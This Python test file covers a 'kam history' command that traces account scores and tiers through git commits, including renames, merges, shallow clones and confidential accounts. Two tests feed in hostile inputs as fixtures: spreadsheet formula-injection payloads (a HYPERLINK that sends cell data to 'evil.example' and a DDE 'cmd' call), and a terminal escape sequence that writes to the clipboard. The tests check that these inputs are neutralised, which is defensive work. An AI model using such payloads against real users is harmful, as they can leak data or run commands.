"""`kam history` on a scripted git repository: score edits, a criteria change, a folder rename,
a merge, commits that touch nothing scored, and a shallow clone."""

from __future__ import annotations

import json
import subprocess

import pytest
from click.testing import CliRunner

from account_playbooks.cli.commands import main
from account_playbooks.history.timeline import history

from .gitrepo import ENV, edit, git, portfolio_repo

pytestmark = pytest.mark.slow  # replays git history


def _commit(repo, message, date, author="Ann Lee"):
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message, author=author, date=date)
    return git(repo, "rev-parse", "HEAD").strip()


@pytest.fixture(scope="module")
def scripted(tmp_path_factory):
    """Six commits on main, one of them a merge of a side branch."""
    repo = portfolio_repo(tmp_path_factory.mktemp("history") / "repo", author="Ann Lee",
                          date="2026-01-10T09:00:00+00:00")
    shas = {"portfolio": git(repo, "rev-parse", "HEAD").strip()}
    edit(repo, "accounts/bluth-company/account.yml", "relationship_strength: {score: 3,",
         "relationship_strength: {score: 4,")
    shas["bluth"] = _commit(repo, "Bluth: CFO now meets us quarterly", "2026-03-02T10:00:00+00:00", "Bo Chen")
    edit(repo, "criteria.yml", "{id: gold, name: Gold, min_score: 6.5,", "{id: gold, name: Gold, min_score: 7.5,")
    shas["criteria"] = _commit(repo, "Raise the gold bar", "2026-04-01T10:00:00+00:00")
    (repo / "notes.md").write_text("Nothing scored here.\n")
    _commit(repo, "A note outside the portfolio", "2026-04-15T10:00:00+00:00")
    git(repo, "mv", "accounts/codehow", "accounts/codehow-inc")
    shas["rename"] = _commit(repo, "Codehow is Codehow Inc now", "2026-05-01T10:00:00+00:00")
    git(repo, "checkout", "-q", "-b", "side")
    stakeholders = repo / "accounts/kan-code/stakeholders.yml"
    stakeholders.write_text(stakeholders.read_text(encoding="utf-8") + (
        "- id: rosa-marin\n  name: Rosa Marin\n  title: Head of Procurement\n  role: influencer\n"
        "  influence: medium\n  sentiment: neutral\n  reports_to: samuel-whitfield\n"
        "  relationship_owner: rocco-neubert\n  last_contact: 2026-05-20\n"), encoding="utf-8")
    _commit(repo, "Kan Code: map procurement", "2026-05-20T10:00:00+00:00", "Bo Chen")
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--no-ff", "-m", "Merge side", "side", date="2026-06-01T10:00:00+00:00")
    shas["merge"] = git(repo, "rev-parse", "HEAD").strip()
    return repo, shas


def _run(repo, *args):
    return CliRunner().invoke(main, ["--root", str(repo), "history", *args], env={"COLUMNS": "200"})


def test_every_point_has_its_commit_cause_figures_and_words(scripted):
    repo, shas = scripted
    found = history(repo)
    assert not found.shallow and found.first_commit.sha == shas["portfolio"]
    bluth = [(p.commit, p.cause, p.score, p.tier, p.changes) for p in found.of("bluth-company")]
    assert bluth == [
        (shas["portfolio"], "account", 4.85, "standard", ("account added",)),
        (shas["bluth"], "account", 5.05, "silver", ("Relationship strength 3 → 4", "promoted to Silver")),
        (shas["criteria"], "criteria", 5.05, "silver", ("criteria: Gold threshold: 6.5 → 7.5",)),
    ]
    second = found.of("bluth-company")[1]
    assert (second.author, second.subject, second.date.isoformat()) == \
        ("Bo Chen", "Bluth: CFO now meets us quarterly", "2026-03-02T10:00:00+00:00")


def test_each_point_is_what_the_pipeline_gives_at_that_commit_on_its_date(scripted, tmp_path):
    """Replayed figures against the ordinary pipeline run on each commit's own files."""
    from account_playbooks.analysis.analytics import analyse
    from account_playbooks.history.gitsource import materialise
    from account_playbooks.scoring.check import check

    repo, _ = scripted
    for point in history(repo).points:
        if point.removed:
            continue
        on = point.date.date()
        checked = check(materialise(repo, point.commit, tmp_path / point.commit[:12]), on)
        entry = checked.scores.by_account[point.account]
        health = analyse(checked.portfolio, checked.scores, on).health[point.account].total
        assert (point.score, point.tier, point.health) == (entry.score, entry.tier_id, health), point


def test_a_criteria_change_moves_a_tier_without_looking_like_the_account_moved(scripted):
    repo, _ = scripted
    acme = history(repo).of("acme-corporation")
    assert [(p.cause, p.score, p.tier) for p in acme] == [("account", 7.15, "gold"), ("criteria", 7.15, "silver")]
    assert acme[1].changes == ("criteria: Gold threshold: 6.5 → 7.5", "moved down to Silver")


def test_a_renamed_folder_keeps_its_history(scripted):
    repo, shas = scripted
    found = history(repo)
    series = found.of("codehow-inc")
    assert [(p.account, p.commit, p.cause) for p in series] == [
        ("codehow", shas["portfolio"], "account"), ("codehow", shas["criteria"], "criteria"),
        ("codehow-inc", shas["rename"], "account")]
    assert series[-1].renamed_from == "codehow" and series[-1].changes == ("folder renamed from codehow",)
    assert found.of("codehow") == ()  # the old id is not a second account
    assert found.tier_since("codehow-inc", "gold") == series[0]


def test_a_merge_counts_once_on_the_first_parent_line(scripted):
    repo, shas = scripted
    kan = history(repo).of("kan-code")
    assert [p.commit for p in kan] == [shas["portfolio"], shas["criteria"], shas["merge"]]
    assert kan[-1].changes == ("new stakeholder Rosa Marin",)
    assert all(p.subject != "A note outside the portfolio" for p in history(repo).points)


def test_json_csv_and_table_carry_the_same_points(scripted):
    repo, shas = scripted
    as_json = _run(repo, "bluth-company", "--json")
    assert as_json.exit_code == 0, as_json.output
    document = json.loads(as_json.stdout)
    assert document["shallow"] is False and document["first_commit"]["commit"] == shas["portfolio"]
    assert [p["commit"] for p in document["points"]] == [shas["portfolio"], shas["bluth"], shas["criteria"]]
    assert document["points"][1] == {
        "account": "bluth-company", "commit": shas["bluth"], "date": "2026-03-02T10:00:00+00:00",
        "author": "Bo Chen", "subject": "Bluth: CFO now meets us quarterly", "cause": "account", "score": 5.05,
        "tier": "silver", "tier_name": "Silver", "health": document["points"][1]["health"],
        "changes": ["Relationship strength 3 → 4", "promoted to Silver"], "renamed_from": None, "removed": False,
        "added": False, "score_before": 4.85, "tier_before": "standard"}
    as_csv = _run(repo, "bluth-company", "--csv", "--since", "2026-03-01").stdout.splitlines()
    assert as_csv[0] == "account,date,commit,author,subject,cause,score,tier,health,changes,renamed_from,removed,added,score_before,tier_before"
    assert len(as_csv) == 3 and as_csv[1].startswith(f"bluth-company,2026-03-02T10:00:00+00:00,{shas['bluth']},Bo Chen,")
    table = _run(repo, "bluth-company").stdout
    assert "promoted to Silver" in table and shas["bluth"][:8] in table and "5.05" in table


def test_an_unknown_account_exits_2_with_a_suggestion(scripted):
    repo, _ = scripted
    result = _run(repo, "codehow-in")
    assert result.exit_code == 2 and "no history for 'codehow-in'; did you mean 'codehow-inc'?" in result.stderr


def test_a_shallow_clone_says_where_history_is_cut(scripted, tmp_path):
    repo, shas = scripted
    shallow = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "2", f"file://{repo}", str(shallow)], check=True, env=ENV)
    result = _run(shallow, "--json")
    document = json.loads(result.stdout)
    assert result.exit_code == 0 and document["shallow"] is True
    assert "history is cut at this clone's depth" in result.stderr and "git fetch --unshallow" in result.stderr
    # The cut commit shows the whole portfolio as it stood then, not as a day-one history.
    assert document["first_commit"]["commit"] != shas["portfolio"]


def test_outside_git_there_is_no_history_and_that_is_fine(tmp_path):
    import shutil

    from .corpus import BASE

    shutil.copytree(BASE, tmp_path / "repo")
    result = _run(tmp_path / "repo")
    assert result.exit_code == 0 and "there is no history" in result.stderr and result.stdout == ""


def test_a_broken_file_is_not_a_removal_and_a_deleted_folder_is(tmp_path):
    import shutil

    repo = portfolio_repo(tmp_path / "repo", date="2026-01-10T09:00:00+00:00")
    path = repo / "accounts/bluth-company/account.yml"
    good = path.read_text(encoding="utf-8")
    path.write_text("name: [unclosed\n", encoding="utf-8")
    _commit(repo, "oops", "2026-02-01T10:00:00+00:00")
    path.write_text(good.replace("relationship_strength: {score: 3,", "relationship_strength: {score: 4,"),
                    encoding="utf-8")
    _commit(repo, "fixed, and a point more", "2026-02-02T10:00:00+00:00")
    shutil.rmtree(repo / "accounts/codehow")
    _commit(repo, "Codehow is no longer a customer", "2026-03-01T10:00:00+00:00")
    found = history(repo)
    bluth = [(p.subject, p.score, p.removed, p.changes) for p in found.of("bluth-company")]
    assert bluth == [
        ("portfolio", 4.85, False, ("account added",)),
        ("oops", None, False, ("account.yml could not be read at this commit (see `kam validate` there)",)),
        ("fixed, and a point more", 5.05, False, ("Relationship strength 3 → 4", "promoted to Silver")),
    ]
    last = found.of("codehow")[-1]
    assert (last.removed, last.score, last.changes, last.score_before) == (True, None, ("account removed",), 7.75)


def test_a_rename_is_one_rule_in_the_history_and_in_kam_diff(tmp_path):
    """Renamed means gone from one id and arrived at another under the same name, in both. Here
    git sees no rename (the new account.yml shares no line with the old one), and a folder that
    moved while the account took a new name is a new account, though git calls it a rename."""
    import shutil

    import yaml

    repo = portfolio_repo(tmp_path / "repo", date="2026-01-10T09:00:00+00:00")
    codehow = yaml.safe_load((repo / "accounts/codehow/account.yml").read_text(encoding="utf-8"))
    shutil.rmtree(repo / "accounts/codehow")
    (repo / "accounts/codehow-inc").mkdir()
    (repo / "accounts/codehow-inc/account.yml").write_text(yaml.safe_dump(codehow, default_flow_style=True, width=10**6),
                                                           encoding="utf-8")
    git(repo, "mv", "accounts/bluth-company", "accounts/bluth")
    edit(repo, "accounts/bluth/account.yml", "name: Bluth Company", "name: Bluth Holdings")
    _commit(repo, "Codehow rewritten, Bluth renamed", "2026-02-01T10:00:00+00:00")
    names = git(repo, "show", "--name-status", "-M", "--format=", "HEAD")
    assert "R" not in {line[0] for line in names.splitlines() if "codehow" in line}  # git: a removal and an addition
    assert any(line.startswith("R") and "bluth" in line for line in names.splitlines())  # git: a rename

    found = history(repo)
    assert found.of("codehow-inc")[-1].renamed_from == "codehow" and found.of("codehow") == ()
    assert found.of("bluth")[-1].added and found.of("bluth-company")[-1].removed
    diff = CliRunner().invoke(main, ["--root", str(repo), "diff", "HEAD~1", "--head", "HEAD", "--format", "json",
                                     "--today", "2026-02-01"])
    statuses = {c["id"]: (c["status"], c["previous_id"]) for c in json.loads(diff.stdout)["accounts"]}
    assert statuses["codehow-inc"] == ("renamed", "codehow")
    assert (statuses["bluth"], statuses["bluth-company"]) == (("added", None), ("removed", None))


def test_the_history_table_shows_commit_subjects_as_written_and_sends_no_escape():
    import datetime as dt
    import io

    from rich.console import Console

    from account_playbooks.history.historyreport import print_table
    from account_playbooks.history.timeline import Point

    subject = "[bold]fix[/] [closed] \x1b]52;c;aGk=\x07\x1b[2K\r"
    point = Point("acme", "0" * 40, dt.datetime(2026, 1, 2, tzinfo=dt.UTC), "Eve", subject, "account", 5.0,
                  "gold", "Gold", 80)
    console = Console(width=300, file=io.StringIO(), color_system=None)
    print_table([point], console)
    text = console.file.getvalue()
    assert "([bold]fix[/] [closed] \\x1b]52;c;aGk=\\x07\\x1b[2K\\x0d)" in text and "\x1b" not in text


def test_history_csv_neutralises_authors_and_subjects_that_spreadsheets_would_run(tmp_path):
    """Commit authors and subjects are anyone's text: opened in a spreadsheet, the CSV shows them
    as text instead of running them, and the figures stay numbers."""
    import csv
    import io

    repo = portfolio_repo(tmp_path / "repo", author="Ann Lee", date="2026-01-10T09:00:00+00:00")
    edit(repo, "accounts/bluth-company/account.yml", "relationship_strength: {score: 3,",
         "relationship_strength: {score: 4,")
    sha = _commit(repo, '=HYPERLINK("http://evil.example/?"&A1,"Open")', "2026-03-02T10:00:00+00:00",
                  "=cmd|' /C calc'!A0")
    found = _run(repo, "bluth-company", "--csv", "--since", "2026-03-01")
    assert found.exit_code == 0, found.output
    rows = list(csv.DictReader(io.StringIO(found.stdout)))
    assert len(rows) == 1 and rows[0]["commit"] == sha
    assert rows[0]["author"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["subject"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
    assert rows[0]["score"] == "5.05" and rows[0]["score_before"] == "4.85"
    as_json = json.loads(_run(repo, "bluth-company", "--json", "--since", "2026-03-01").stdout)
    assert as_json["points"][0]["author"] == "=cmd|' /C calc'!A0"  # JSON is data for programs: as it is


def test_an_account_once_confidential_is_left_out_of_the_history_of_a_site_that_may_not_see_it(tmp_path):
    """Its past would tell on it: an account marked confidential at any commit, even if it is not now, and
    under its later folder name too."""
    repo = portfolio_repo(tmp_path / "repo", date="2026-01-10T09:00:00+00:00")
    edit(repo, "accounts/codehow/account.yml", "parent: acme-corporation", "parent: acme-corporation\nconfidential: true")
    _commit(repo, "Codehow: confidential while the merger talks run", "2026-02-01T10:00:00+00:00")
    edit(repo, "accounts/codehow/account.yml", "confidential: true\n", "")
    _commit(repo, "Codehow: the merger is public", "2026-03-01T10:00:00+00:00")
    git(repo, "mv", "accounts/codehow", "accounts/codehow-inc")
    _commit(repo, "Codehow is Codehow Inc now", "2026-04-01T10:00:00+00:00")
    found = history(repo)
    assert found.ever_confidential() == {"codehow-inc"}
    kept = found.without(found.ever_confidential())
    assert kept.of("codehow-inc") == () and {p.account for p in kept.points} == {
        "acme-corporation", "bluth-company", "kan-code"}
    assert found.without(frozenset()) is found
